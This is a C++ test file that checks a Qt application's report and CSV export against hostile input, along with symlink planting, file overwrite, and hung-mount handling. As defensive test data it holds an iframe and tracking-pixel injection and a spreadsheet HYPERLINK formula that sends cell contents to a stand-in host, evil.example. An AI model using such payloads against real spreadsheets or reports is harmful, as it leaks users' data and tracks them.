// The window's side of the third hostile-input review (hostile-input-3.md): a name writes no
// Markdown block and no spreadsheet formula; a new export folder is claimed when the
// export starts; an export never replaces the scenario it shows; an unreadable file
// says why; a recent file that is not UTF-8 is kept byte for byte; a start whose last
// scenario does not answer still opens the window (a dead network mount).
#include "app/main_window.h"
#include "core/base/file_io.h"
#include "core/scenario/scenario_io.h"
#include "tests/widgets/settle.h"
#include "widgets/export/folder_export.h"
#include "widgets/export/report_export.h"
#include "widgets/io/app_settings.h"
#include "widgets/io/start_files.h"
#include "widgets/main_view.h"
#include "widgets/session/scenario_document.h"
#include "widgets/session/scenario_session.h"
#include "widgets/text/native_path.h"
#include "widgets/text/problem_text.h"

#include <QDir>
#include <QElapsedTimer>
#include <QFile>
#include <QSettings>
#include <QTemporaryDir>
#include <catch2/catch.hpp>

#include <chrono>
#include <cstdio>
#include <thread>

using namespace ui;
using namespace std::chrono_literals;

namespace {

QByteArray contentOf(const QString& path)
{
    QFile f(path);
    return f.open(QIODevice::ReadOnly) ? f.readAll() : QByteArray();
}

/// The bundled default written to `path` (a name of any bytes: pathFromNative()); its bytes.
QByteArray writeDefaultScenario(const QString& path)
{
    const std::string text = core::scenarioToJson(core::defaultScenario());
    std::FILE* f = std::fopen(nativePath(path).c_str(), "wb");
    REQUIRE(f);
    REQUIRE(std::fwrite(text.data(), 1, text.size(), f) == text.size());
    std::fclose(f);
    return QByteArray::fromStdString(text);
}

/// Only the tables and the JSON: no drawing, fast.
ExportOptions tablesOnly()
{
    ExportOptions o;
    o.figures = QStringList {};
    o.png = o.svg = o.pdf = false;
    o.reportMarkdown = o.reportHtml = o.reportPdf = false;
    return o;
}

const char* const kHostileName
    = "Run A\n\n<iframe src=\"http://evil.example/\"></iframe>\n\n![pixel](http://evil.example/track.png)";

} // namespace

TEST_CASE("a scenario's name is text in report.md, never a block of its own", "[widgets][hostile3][report]")
{
    core::Scenario s = core::defaultScenario();
    s.name = kHostileName;
    ScenarioSession session(s);
    test::settle();
    const ReportInputs in { session.results(), {}, {}, session.explanations() };
    const QString md = reportMarkdown(in);
    const QStringList lines = md.split(QLatin1Char('\n'));
    INFO(lines.first().toStdString());
    // The title is one line: the name's line breaks are spaces, its HTML entities, its image text.
    CHECK(lines.first()
        == QStringLiteral("# Run A &lt;iframe src=\"http://evil.example/\"&gt;&lt;/iframe&gt; "
                          "\\!\\[pixel\\](http://evil.example/track.png)"));
    for (const QString& line : lines) {
        INFO(line.toStdString());
        CHECK_FALSE(line.startsWith(QLatin1String("<iframe")));
        CHECK_FALSE(line.startsWith(QLatin1String("![pixel]")));
    }
    // Only the scenario file in its code block holds the name as it is (JSON, which Markdown shows as text).
    const QString prose = md.left(md.indexOf(QLatin1String("```json")));
    CHECK_FALSE(prose.contains(QLatin1String("<iframe")));
    CHECK_FALSE(prose.contains(QLatin1String("![pixel]")));
}

TEST_CASE("a name that starts with '=' is no formula in any exported CSV", "[widgets][hostile3][csv]")
{
    core::Scenario s = core::defaultScenario();
    s.name = "=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"Run A\")";
    ScenarioSession session(s);
    MainView view(&session);
    test::settle();
    QTemporaryDir dir;
    const ExportResult r = exportAll(&view, &session, dir.path(), tablesOnly());
    REQUIRE(r.error.isEmpty());
    int tables = 0;
    for (const QString& file : r.files) {
        if (!file.endsWith(QLatin1String(".csv"))) continue;
        ++tables;
        const QList<QByteArray> rows = contentOf(QDir(dir.path()).filePath(file)).split('\n');
        REQUIRE(rows.size() > 1);
        INFO(file.toStdString() << ": " << rows[1].toStdString());
        CHECK(rows[1].endsWith(",\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A2,\"\"Run A\"\")\""));
    }
    CHECK(tables >= 4);
}

TEST_CASE("an export's new folder is claimed when it starts, not when it writes", "[widgets][hostile3][files]")
{
    QTemporaryDir dir;
    ScenarioSession a(core::defaultScenario());
    MainView viewA(&a);
    core::Scenario half = core::defaultScenario();
    half.training.globalBatch = 512; // another scenario with the same automatic name
    ScenarioSession b(half);
    MainView viewB(&b);
    test::settle();
    ExportOptions o = tablesOnly();
    o.newFolderName = QStringLiteral("Llama 2 7B");
    // A starts and claims its folder; B runs to its end meanwhile; A then writes.
    ExportJob first(&viewA, &a, dir.path(), o);
    ExportResult firstResult;
    QObject::connect(&first, &ExportJob::finished, [&](const ExportResult& r) { firstResult = r; });
    first.start();
    QCoreApplication::processEvents(); // its first step: the folder
    CHECK(QDir(dir.filePath(QStringLiteral("Llama 2 7B"))).exists());
    const ExportResult second = exportAll(&viewB, &b, dir.path(), o);
    REQUIRE(second.error.isEmpty());
    CHECK(second.folder == dir.filePath(QStringLiteral("Llama 2 7B (2)")));
    while (first.isRunning())
        QCoreApplication::processEvents();
    REQUIRE(firstResult.error.isEmpty());
    CHECK(firstResult.folder == dir.filePath(QStringLiteral("Llama 2 7B")));
    CHECK(contentOf(QDir(firstResult.folder).filePath(QStringLiteral("scenario.tpscenario.json")))
        != contentOf(QDir(second.folder).filePath(QStringLiteral("scenario.tpscenario.json"))));

    // A link planted at the next name is passed over; the folder it points to stays empty.
    QTemporaryDir elsewhere;
    REQUIRE(QFile::link(elsewhere.path(), dir.filePath(QStringLiteral("Llama 2 7B (3)"))));
    const ExportResult third = exportAll(&viewA, &a, dir.path(), o);
    REQUIRE(third.error.isEmpty());
    CHECK(third.folder == dir.filePath(QStringLiteral("Llama 2 7B (4)")));
    CHECK(QDir(elsewhere.path()).isEmpty());

    // Nothing written: the folder it claimed goes again, with the reason it could not write.
    ExportOptions nothing = o;
    nothing.tables = nothing.json = false;
    const ExportResult none = exportAll(&viewA, &a, dir.path(), nothing);
    CHECK(none.files.isEmpty());
    CHECK_FALSE(QDir(dir.filePath(QStringLiteral("Llama 2 7B (5)"))).exists());
}

TEST_CASE("an export never replaces the scenario file it shows, even when agreed", "[widgets][hostile3][files]")
{
    QTemporaryDir dir;
    const QString path = dir.filePath(QStringLiteral("scenario.tpscenario.json"));
    const QByteArray mine = writeDefaultScenario(path);
    ScenarioSession session(core::defaultScenario());
    session.document()->reset(core::defaultScenario(), path);
    MainView view(&session);
    test::settle();
    ExportOptions agreed = tablesOnly();
    agreed.replaceExisting = true;
    const ExportResult r = exportAll(&view, &session, dir.path(), agreed);
    CHECK_THAT(r.error.toStdString(), Catch::Contains("it is the scenario this command reads"));
    CHECK(r.files.isEmpty());
    CHECK(contentOf(path) == mine);
    CHECK(QDir(dir.path()).entryList(QDir::Files) == QStringList { QStringLiteral("scenario.tpscenario.json") });
}

TEST_CASE("a file that cannot be read is reported with the system's reason", "[widgets][hostile3][files]")
{
    QTemporaryDir dir;
    const core::ScenarioResult folder = core::loadScenarioFile(nativePath(dir.path()));
    REQUIRE_FALSE(folder.ok());
    CHECK(ProblemText::of(folder.error) == QStringLiteral("The file cannot be read: it is a folder."));
    const core::ScenarioResult missing = core::loadScenarioFile(nativePath(dir.filePath(QStringLiteral("x.json"))));
    CHECK(ProblemText::of(missing.error) == QStringLiteral("The file cannot be read: it does not exist."));
    core::ScenarioError denied = missing.error;
    denied.problem.values = { { "reason", double(int(core::FileFailure::permission_denied)) } };
    CHECK(ProblemText::of(denied).contains(QStringLiteral("permission denied")));
}

TEST_CASE("a recent file whose name is not UTF-8 is stored byte for byte and reopened", "[widgets][hostile3][settings]")
{
    static QTemporaryDir settings; // the settings of this run, not the user's
    REQUIRE(settings.isValid());
    QSettings::setPath(QSettings::NativeFormat, QSettings::UserScope, settings.path());
    AppSettings::clearRecentFiles();
    QTemporaryDir dir;
    const QString latin1 = pathFromNative(nativePath(dir.path()).append("/lat\xe9.tpscenario.json").c_str());
    writeDefaultScenario(latin1);
    const QString utf8 = dir.filePath(QStringLiteral("plain.tpscenario.json"));
    AppSettings::addRecentFile(utf8);
    AppSettings::addRecentFile(latin1);
    QSettings().sync();
    CHECK(AppSettings::recentFiles() == QStringList({ latin1, utf8 }));
    CHECK(nativePath(AppSettings::recentFiles().front()) == nativePath(latin1));
    CHECK(DocumentActions::lastScenarioToReopen() == latin1);
    // The settings file holds no U+FFFD in place of the byte.
    QFile stored(QSettings().fileName());
    REQUIRE(stored.open(QIODevice::ReadOnly));
    CHECK_FALSE(stored.readAll().contains("\xef\xbf\xbd"));
    AppSettings::clearRecentFiles();
}

TEST_CASE(
    "start files are read on a worker: one that does not answer leaves the window free", "[widgets][hostile3][start]")
{
    // A reader that blocks like stat() on a dead network mount (for 3 s here; there, for minutes).
    const ScenarioReader hung = [](const std::string&) {
        std::this_thread::sleep_for(3s);
        return core::ScenarioResult { core::defaultScenario(), {} };
    };
    QElapsedTimer clock;
    clock.start();
    const std::vector<StartRead> reads = readStartFiles({ QStringLiteral("/mnt/dead/a.tpscenario.json") }, 200ms, hung);
    CHECK(clock.elapsed() < 2000);
    REQUIRE(reads.size() == 1);
    CHECK_FALSE(reads.front().result.has_value());

    ScenarioSession session(core::defaultScenario());
    MainWindow window(&session);
    DocumentActions::StartOptions start;
    start.limit = 200ms;
    start.reader = hung;
    start.reopeningLast = true;
    clock.restart();
    const QStringList problems
        = window.documents()->openStartFiles({ QStringLiteral("/mnt/dead/a.tpscenario.json") }, start);
    CHECK(clock.elapsed() < 2000);
    REQUIRE(problems.size() == 1);
    CHECK(problems.front().contains(QStringLiteral("did not answer within 0.2 seconds")));
    CHECK(session.document()->filePath().isEmpty()); // the default, unsaved

    // A last scenario deleted since is skipped without a word; one that answers opens.
    QTemporaryDir dir;
    start = {};
    start.reopeningLast = true;
    CHECK(
        window.documents()->openStartFiles({ dir.filePath(QStringLiteral("gone.tpscenario.json")) }, start).isEmpty());
    const QString there = dir.filePath(QStringLiteral("there.tpscenario.json"));
    writeDefaultScenario(there);
    CHECK(window.documents()->openStartFiles({ there }, start).isEmpty());
    CHECK(session.document()->filePath() == there);
}
